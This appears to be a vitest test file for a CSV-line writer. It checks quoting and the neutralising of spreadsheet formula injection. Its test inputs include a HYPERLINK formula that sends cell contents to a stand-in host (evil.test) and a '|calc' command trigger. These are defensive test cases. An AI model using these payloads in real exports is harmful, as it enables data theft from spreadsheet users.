import { expect, test } from 'vitest'
import { csvLine } from './csv.ts'

test('cells are quoted where they must be, and nothing is lost', () => {
  expect(csvLine(['a', 1, null, 'b,c', 'd"e', 'f\ng', ' h '])).toBe('a,1,,"b,c","d""e","f\ng"," h "\r\n')
})

test.each([
  ...[
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '=HYPERLINK("http://evil.test?"&A1,"x")',
    '|calc',
    '%0A=1',
  ],
  ...['\uff1d1', '\uff0b1', '\uff0d1', '\uff201', '\ufeff=1', '\u200b=1'],
])('a spreadsheet takes no cell for a formula: %j', (text) => {
  const cell = csvLine([text]).slice(0, -2)
  expect(cell.replace(/^"/, '')).toBe(`'${text.replaceAll('"', '""')}${cell.startsWith('"') ? '"' : ''}`)
})

test('what is negative as a number stays one', () => {
  expect(csvLine([-1])).toBe('-1\r\n')
})
